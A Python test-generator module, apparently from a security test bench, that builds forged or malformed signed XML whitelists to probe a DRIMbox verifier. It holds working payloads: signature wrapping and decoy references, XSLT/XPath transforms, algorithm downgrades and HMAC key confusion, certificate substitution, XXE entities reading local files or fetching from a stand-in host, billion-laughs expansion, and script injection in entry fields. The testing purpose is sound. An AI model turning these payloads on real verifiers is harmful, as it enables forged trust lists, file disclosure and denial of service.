"""White lists that are traps: texts cut short, signatures moved, transforms, algorithms, keys, XML.

Each is made of the list in force, whose last entry is whom the trap is to let in. Where a wrong
reader would take it for signed, it is: the agency's own key signs what that reader would compute,
so that nothing but the trap itself is wrong. Names of algorithms are those of XML Signature and of
RFC 6931 (grade: standard); what a DRIMbox makes of them is inferred (psc-trust-security.md 5, WL).
"""

from __future__ import annotations

import hashlib
import hmac
from base64 import b64encode
from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, replace
from types import MappingProxyType
from typing import Final

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import dsa, padding, rsa
from lxml import etree

from protocols import xml
from protocols.whitelist import Domain, WhiteList

__all__ = ["TRAPS", "Forge"]

_DS: Final = f"{{{xml.NS['ds']}}}"
_EXCLUSIVE: Final = "http://www.w3.org/2001/10/xml-exc-c14n#"
_INCLUSIVE_COMMENTS: Final = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments"
_ENVELOPED: Final = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
_FILTER2: Final = "http://www.w3.org/2002/06/xmldsig-filter2"
_SCHEMA_INSTANCE: Final = "http://www.w3.org/2001/XMLSchema-instance"
_ATTRIBUTES: Final = 1_000_000
_DEPTH: Final = 100_000
_CERTIFICATES: Final = 1_000


@dataclass(frozen=True, slots=True, kw_only=True)
class Forge:
    """What a trap is made of."""

    white_list: WhiteList
    """The list in force: its last entry is whom the trap is to let in."""
    key: rsa.RSAPrivateKey
    """The agency's own."""
    other: rsa.RSAPrivateKey
    """That of anybody."""
    write: Callable[[WhiteList], bytes]
    """A list without signature."""
    sign: Callable[[bytes], bytes]
    """A document, signed by the agency as it signs its lists."""
    sign_as_other: Callable[[bytes], bytes]
    """... by anybody."""
    elsewhere: str
    """`host:port` that nobody should follow an address to."""

    @property
    def named(self) -> Domain:
        """Whom the trap is to let in."""
        return self.white_list.domains[-1]

    @property
    def others(self) -> WhiteList:
        """The list without that one: rightly signed, the agency did publish it."""
        return replace(self.white_list, domains=self.white_list.domains[:-1])

    def instead(self, domain: Domain) -> WhiteList:
        """The list with another entry in place of the last."""
        return replace(self.white_list, domains=(*self.white_list.domains[:-1], domain))

    def signed(self) -> bytes:
        """The list in force, as it is."""
        return self.sign(self.write(self.white_list))


Make = Callable[[Forge], bytes]


# -- the text that is read is the text that was signed --------------------------------------------


def _cut(between: bytes, *, before: bool) -> Make:
    """The name of whom it is to let in, and after `between` what makes it another's.

    `before`: it stands there when the list is signed, else it is put in afterwards.
    """

    def make(forge: Forge) -> bytes:
        name = forge.named.operator_dn
        data = forge.write(forge.instead(replace(forge.named, operator_dn=f"{name}0")))
        whole, parted = f">{name}0<".encode(), f">{name}".encode() + between + b"<"
        if before:
            return forge.sign(data.replace(whole, parted))
        return forge.sign(data).replace(whole, parted)

    return make


# -- what is signed is what is read ---------------------------------------------------------------


def _moved(forge: Forge) -> bytes:
    """A root of ours around the agency's, whose signature comes last in it."""
    genuine = xml.parse(forge.sign(forge.write(forge.others)))
    root = xml.parse(forge.write(forge.white_list))
    signature = genuine[-1]
    root.append(genuine)
    root.append(signature)
    return xml.serialize(root)


def _second_list(forge: Forge) -> bytes:
    """The agency's list, and one of ours before it."""
    root = xml.parse(forge.sign(forge.write(forge.others)))
    ours = xml.parse(forge.write(forge.white_list))
    listed = next(one for one in ours if str(one.tag).endswith("}ListeDomaines"))
    root.insert(1, listed)
    return xml.serialize(root)


def _two_signatures(forge: Forge) -> bytes:
    """Anybody's, which holds, and the agency's, of another list."""
    root = xml.parse(forge.sign_as_other(forge.write(forge.white_list)))
    root.append(xml.parse(forge.sign(forge.write(forge.others)))[-1])
    return xml.serialize(root)


def _first(forge: Forge) -> bytes:
    """The right signature, before what it signs."""
    root = xml.parse(forge.signed())
    root.insert(0, root[-1])
    return xml.serialize(root)


def _decoy(forge: Forge) -> bytes:
    """Signed is an element that says nothing."""
    root = xml.parse(forge.signed())
    decoy = etree.SubElement(root, f"{{{forge.white_list.namespace}}}Leurre", Id="leurre")
    decoy.text = "rien"
    root.insert(0, decoy)

    def change(signed: etree._Element) -> None:
        reference = signed.findall(f"{_DS}Reference")[0]
        reference.set("URI", "#leurre")
        _set_transforms(reference, _EXCLUSIVE)
        _set_digest(reference, _canonical(decoy))

    return _resealed(root, forge.key, change)


def _twice(forge: Forge) -> bytes:
    """Two elements of the identifier that the signature names."""
    root = xml.parse(forge.signed())
    properties = next(root.iter("{*}SignedProperties"))
    copy = etree.SubElement(root[-1], f"{_DS}Object")
    copy.append(deepcopy(properties))
    return xml.serialize(root)


# -- what is done before it is hashed -------------------------------------------------------------


def _transformed(*algorithms: str, inside: str = "") -> Make:
    """These transforms of the whole, whose hash is what who ignores them would compute.

    `inside`: the content of the last.
    """

    def make(forge: Forge) -> bytes:
        root = xml.parse(forge.signed())

        def change(signed: etree._Element) -> None:
            reference = signed.findall(f"{_DS}Reference")[0]
            last = _set_transforms(reference, *algorithms)
            if inside:
                last.append(etree.fromstring(inside))
            _set_digest(reference, _unsigned_octets(root))

        return _resealed(root, forge.key, change)

    return make


def _at(uri: str) -> Make:
    """The list, by a signature of what is at another address; who looks at the list finds it right.

    `{elsewhere}` stands for where nobody should go.
    """

    def make(forge: Forge) -> bytes:
        root = xml.parse(forge.signed())

        def change(signed: etree._Element) -> None:
            reference = signed.findall(f"{_DS}Reference")[0]
            reference.set("URI", uri.format(elsewhere=forge.elsewhere))
            _set_digest(reference, _unsigned_octets(root))

        return _resealed(root, forge.key, change)

    return make


_STYLESHEET: Final = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy>'
    "</xsl:template></xsl:stylesheet>"
)


def _filter2(kind: str, path: str) -> Make:
    return _transformed(
        _ENVELOPED,
        _EXCLUSIVE,
        _FILTER2,
        inside=f'<XPath xmlns="{_FILTER2}" Filter="{kind}">{path}</XPath>',
    )


# -- by which algorithms --------------------------------------------------------------------------


def _by(method: str, seal: Callable[[Forge, bytes], bytes], *, length: str = "") -> Make:
    """Signed by another algorithm, rightly."""

    def make(forge: Forge) -> bytes:
        root = xml.parse(forge.signed())

        def change(signed: etree._Element) -> None:
            named = signed.findall(f"{_DS}SignatureMethod")[0]
            named.set("Algorithm", method)
            if length:
                etree.SubElement(named, f"{_DS}HMACOutputLength").text = length

        return _resealed(root, forge.key, change, seal=lambda octets: seal(forge, octets))

    return make


def _digested_md5(forge: Forge) -> bytes:
    root = xml.parse(forge.signed())

    def change(signed: etree._Element) -> None:
        reference = signed.findall(f"{_DS}Reference")[0]
        named = reference.findall(f"{_DS}DigestMethod")[0]
        named.set("Algorithm", "http://www.w3.org/2001/04/xmldsig-more#md5")
        digest = hashlib.md5(_unsigned_octets(root), usedforsecurity=False).digest()
        reference.findall(f"{_DS}DigestValue")[0].text = b64encode(digest).decode()

    return _resealed(root, forge.key, change)


def _public(forge: Forge) -> bytes:
    """The public key, which everybody has: a secret for who takes it as the key of a MAC."""
    return forge.key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _mac(forge: Forge, octets: bytes) -> bytes:
    return hmac.new(_public(forge), octets, hashlib.sha256).digest()


def _dsa(forge: Forge, octets: bytes) -> bytes:
    return dsa.generate_private_key(2048).sign(octets, hashes.SHA256())


# -- by whose key ---------------------------------------------------------------------------------


def _keyed(change: Callable[[Forge, etree._Element], None]) -> Make:
    """The list, signed by anybody; KeyInfo says that it was the agency."""

    def make(forge: Forge) -> bytes:
        root = xml.parse(forge.sign_as_other(forge.write(forge.white_list)))
        information = next(root[-1].iter(f"{_DS}KeyInfo"))
        change(forge, information)
        return xml.serialize(root)

    return make


def _value_only(forge: Forge, information: etree._Element) -> None:
    information[:] = []
    numbers = forge.other.public_key().public_numbers()
    value = etree.SubElement(etree.SubElement(information, f"{_DS}KeyValue"), f"{_DS}RSAKeyValue")
    for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
        octets = number.to_bytes((number.bit_length() + 7) // 8, "big")
        etree.SubElement(value, f"{_DS}{name}").text = b64encode(octets).decode()


def _retrieved(forge: Forge, information: etree._Element) -> None:
    information[:] = []
    etree.SubElement(
        information,
        f"{_DS}RetrievalMethod",
        URI=f"http://{forge.elsewhere}/signataire.cer",
        Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate",
    )


def _agency_first(forge: Forge, information: etree._Element) -> None:
    """The agency's certificate, then that of the key."""
    _data(information).insert(0, _certificate_of(forge))


def _agency_last(forge: Forge, information: etree._Element) -> None:
    _data(information).append(_certificate_of(forge))


def _agency_alone(forge: Forge, information: etree._Element) -> None:
    data = _data(information)
    data[:] = [_certificate_of(forge)]


def _thousand(forge: Forge, information: etree._Element) -> None:
    data = _data(information)
    data[:] = [_certificate_of(forge) for _ in range(_CERTIFICATES)]


def _data(information: etree._Element) -> etree._Element:
    return next(information.iter(f"{_DS}X509Data"))


def _certificate_of(forge: Forge) -> etree._Element:
    """The agency's, as its signatures show it."""
    return deepcopy(next(xml.parse(forge.signed()).iter(f"{_DS}X509Certificate")))


# -- XML that is a trap by itself -----------------------------------------------------------------


def _declared(subset: str, *, named: str = "", external: str = "") -> Make:
    """The list, rightly signed, after a document type that canonical XML does not keep.

    Args:
        subset: declarations; `{elsewhere}` stands for where nobody should go.
        named: an entity that the name of an entry then refers to.
        external: the external subset's identifier.
    """

    def make(forge: Forge) -> bytes:
        data = forge.signed()
        head, _, rest = data.partition(b"?>")
        if not _:
            head, rest = b'<?xml version="1.0" encoding="UTF-8"', data
        where = {"elsewhere": forge.elsewhere}
        identifier = external.format(**where)
        declared = f"<!DOCTYPE ListeBlancheDRIM-M {identifier} [{subset.format(**where)}]>"
        if named:
            rest = rest.replace(b"<SupportContact>", f"<SupportContact>&{named};".encode(), 1)
        return head + b"?>" + declared.encode() + rest

    return make


def _laughs(levels: int, times: int) -> str:
    first = '<!ENTITY k0 "kit">'
    return first + "".join(
        f'<!ENTITY k{level} "{f"&k{level - 1};" * times}">' for level in range(1, levels + 1)
    )


def _quadratic(forge: Forge) -> bytes:
    """One long entity, many times."""
    long = f'<!ENTITY k0 "{"kit" * 20_000}">'
    data = _declared(long)(forge)
    return data.replace(b"<SupportContact>", b"<SupportContact>" + b"&k0;" * 20_000, 1)


def _included(forge: Forge) -> bytes:
    """An inclusion, signed as it stands."""
    root = xml.parse(forge.write(forge.others))
    etree.SubElement(
        root,
        "{http://www.w3.org/2001/XInclude}include",
        href=f"http://{forge.elsewhere}/liste.xml",
    )
    return forge.sign(xml.serialize(root))


def _located(forge: Forge) -> bytes:
    """A schema to fetch, of a list without whom it is to let in."""
    root = xml.parse(forge.write(forge.others))
    namespace = forge.white_list.namespace
    root.set(
        f"{{{_SCHEMA_INSTANCE}}}schemaLocation", f"{namespace} http://{forge.elsewhere}/liste.xsd"
    )
    return forge.sign(xml.serialize(root))


def _many_attributes(forge: Forge) -> bytes:
    many = " ".join(f'k{number:x}=""' for number in range(_ATTRIBUTES))
    return forge.signed().replace(b"<ListeDomaines", f"<ListeDomaines {many}".encode(), 1)


def _deep(forge: Forge) -> bytes:
    nested = b"<k>" * _DEPTH + b"</k>" * _DEPTH
    return forge.signed().replace(b"</ListeDomaines>", nested + b"</ListeDomaines>", 1)


# -- entries --------------------------------------------------------------------------------------


def _entry(change: Callable[[Domain], Domain]) -> Make:
    """The list, rightly signed, its last entry another."""
    return lambda forge: forge.sign(forge.write(forge.instead(change(forge.named))))


def _host(db: str) -> Make:
    """Under the name of nobody."""
    return _entry(lambda one: replace(one, db=db.format(one.db), operator_dn=f"{one.operator_dn}0"))


def _name(operator_dn: Callable[[str], str]) -> Make:
    return _entry(lambda one: replace(one, operator_dn=operator_dn(one.operator_dn)))


def _hostile_words(one: Domain) -> Domain:
    script = "<script>fetch('/admin')</script>\u202e"
    return replace(
        one, denomination=script, support_contact=script, operator_dn=f"{one.operator_dn}0"
    )


# -- how ------------------------------------------------------------------------------------------


def _resealed(
    root: etree._Element,
    key: rsa.RSAPrivateKey,
    change: Callable[[etree._Element], None],
    *,
    seal: Callable[[bytes], bytes] | None = None,
) -> bytes:
    """The document, its SignedInfo changed and signed again."""
    signature = root[-1]
    signed = signature.findall(f"{_DS}SignedInfo")[0]
    change(signed)
    octets = _canonical(signed)
    value = seal(octets) if seal else key.sign(octets, padding.PKCS1v15(), hashes.SHA256())
    signature.findall(f"{_DS}SignatureValue")[0].text = b64encode(value).decode()
    return xml.serialize(root)


def _canonical(element: etree._Element) -> bytes:
    alone = etree.fromstring(etree.tostring(element, with_tail=False))
    return etree.tostring(alone, method="c14n", exclusive=True, with_comments=False)


def _unsigned_octets(root: etree._Element) -> bytes:
    """What the usual transforms leave of the document."""
    copy = deepcopy(root)
    copy.remove(copy[-1])
    return etree.tostring(copy, method="c14n", exclusive=True, with_comments=False)


def _set_transforms(reference: etree._Element, *algorithms: str) -> etree._Element:
    transforms = reference.findall(f"{_DS}Transforms")[0]
    transforms[:] = []
    for algorithm in algorithms:
        last = etree.SubElement(transforms, f"{_DS}Transform", Algorithm=algorithm)
    return last


def _set_digest(reference: etree._Element, octets: bytes) -> None:
    reference.findall(f"{_DS}DigestMethod")[0].set(
        "Algorithm", "http://www.w3.org/2001/04/xmlenc#sha256"
    )
    digest = b64encode(hashlib.sha256(octets).digest()).decode()
    reference.findall(f"{_DS}DigestValue")[0].text = digest


_EXTERNAL: Final = '<!ENTITY k SYSTEM "http://{elsewhere}/k">'

TRAPS: Mapping[str, tuple[str, Make]] = MappingProxyType(
    {
        "commentaire": ("un commentaire au milieu d'un nom", _cut(b"<!-- -->0", before=False)),
        "instruction": ("une instruction au milieu d'un nom", _cut(b"<?kit ?>0", before=True)),
        "cdata": ("une section CDATA à la fin d'un nom", _cut(b"<![CDATA[0]]>", before=False)),
        "caractere": ("une référence de caractère à la fin d'un nom", _cut(b"&#48;", before=False)),
        "racine": ("la racine signée placée sous une autre", _moved),
        "seconde-liste": ("une seconde ListeDomaines devant celle qui est signée", _second_list),
        "deux-signatures": ("deux signatures, dont une de n'importe qui", _two_signatures),
        "signature-devant": ("la signature avant ce qu'elle signe", _first),
        "leurre": ("une signature qui ne porte que sur un leurre", _decoy),
        "id-double": ("deux éléments de l'Id que la signature nomme", _twice),
        "xslt": (
            "une transformation XSLT",
            _transformed(
                _ENVELOPED,
                _EXCLUSIVE,
                "http://www.w3.org/TR/1999/REC-xslt-19991116",
                inside=_STYLESHEET,
            ),
        ),
        "xpath": (
            "une transformation XPath",
            _transformed(
                _ENVELOPED,
                _EXCLUSIVE,
                "http://www.w3.org/TR/1999/REC-xpath-19991116",
                inside=f'<XPath xmlns="{xml.NS["ds"]}">true()</XPath>',
            ),
        ),
        "filtre-autre": (
            "un filtre XPath qui retire les entrées",
            _filter2("subtract", "/descendant::Domaine"),
        ),
        "filtre-intersection": (
            "un filtre XPath d'intersection",
            _filter2("intersect", "/descendant::ListeDomaines"),
        ),
        "base64": (
            "une transformation base64",
            _transformed(_ENVELOPED, _EXCLUSIVE, "http://www.w3.org/2000/09/xmldsig#base64"),
        ),
        "sans-c14n": ("une référence sans forme canonique", _transformed(_ENVELOPED)),
        "c14n-commentaires": (
            "une forme canonique qui garde les commentaires",
            _transformed(_ENVELOPED, _INCLUSIVE_COMMENTS),
        ),
        "uri-http": ("une référence à une adresse http", _at("http://{elsewhere}/liste.xml")),
        "uri-fichier": ("une référence à un fichier", _at("file:///etc/hostname")),
        "rsa-sha1": (
            "signée en rsa-sha1",
            _by(
                "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
                lambda forge, octets: forge.key.sign(octets, padding.PKCS1v15(), hashes.SHA1()),
            ),
        ),
        "rsa-md5": (
            "signée en rsa-md5",
            _by(
                "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
                lambda forge, octets: forge.key.sign(octets, padding.PKCS1v15(), hashes.MD5()),
            ),
        ),
        "md5": ("d'empreinte md5", _digested_md5),
        "hmac": (
            "signée en hmac-sha256 par la clé publique",
            _by("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", _mac),
        ),
        "hmac-court": (
            "signée en hmac-sha256 de zéro bit",
            _by(
                "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
                lambda forge, octets: b"",
                length="0",
            ),
        ),
        "dsa": ("signée en DSA", _by("http://www.w3.org/2009/xmldsig11#dsa-sha256", _dsa)),
        "cle-nue": ("signée d'une clé sans certificat (KeyValue)", _keyed(_value_only)),
        "cle-ailleurs": ("signée d'une clé à aller chercher", _keyed(_retrieved)),
        "agence-devant": (
            "signée de n'importe qui, le certificat de l'agence devant",
            _keyed(_agency_first),
        ),
        "agence-derriere": (
            "signée de n'importe qui, le certificat de l'agence derrière",
            _keyed(_agency_last),
        ),
        "agence-seule": (
            "signée de n'importe qui, sous le certificat de l'agence",
            _keyed(_agency_alone),
        ),
        "mille-certificats": ("signée de n'importe qui, sous mille certificats", _keyed(_thousand)),
        "entite-externe": ("une entité externe", _declared(_EXTERNAL, named="k")),
        "entite-fichier": (
            "une entité d'un fichier",
            _declared('<!ENTITY k SYSTEM "file:///etc/hostname">', named="k"),
        ),
        "dtd-externe": (
            "une DTD externe",
            _declared("", external='SYSTEM "http://{elsewhere}/liste.dtd"'),
        ),
        "entite-parametre": (
            "une entité paramètre externe",
            _declared('<!ENTITY % k SYSTEM "http://{elsewhere}/k">%k;'),
        ),
        "milliard": ("un milliard de rires", _declared(_laughs(9, 10), named="k9")),
        "quadratique": ("une entité longue, vingt mille fois", _quadratic),
        "xinclude": ("une inclusion XInclude", _included),
        "schema": ("un schéma à aller chercher", _located),
        "attributs": ("un million d'attributs", _many_attributes),
        "profondeur": ("cent mille éléments l'un dans l'autre", _deep),
        "hote-adresse": ("une adresse https pour hôte", _host("https://{}/")),
        "hote-port": ("un hôte et un port", _host("{}:8443")),
        "hote-chemin": ("un hôte et un chemin", _host("{}/../admin")),
        "hote-joker": ("un hôte à joker", _host("*.drimbench.test")),
        "hote-ip": ("une adresse IP pour hôte", _host("127.0.0.1")),
        "hote-espaces": ("un hôte et des espaces", _host("{} autre.drimbench.test")),
        "hote-punycode": ("un hôte en punycode", _host("xn--db1-9na.drimbench.test")),
        "nom-joker": ("un joker pour nom", _name(lambda dn: "*")),
        "nom-majuscules": ("le nom en majuscules", _name(str.upper)),
        "nom-prefixe": ("le nom après une virgule", _name(lambda dn: f"CN=kit,{dn}")),
        "nom-tronque": ("le nom sans sa fin", _name(lambda dn: dn.rpartition(",")[0])),
        "nom-suivi": ("le nom et une suite", _name(lambda dn: f"{dn},O=KIT")),
        "script": ("des balises dans Denomination", _entry(_hostile_words)),
    }
)
"""Name -> what it is, in French; the file that it makes."""
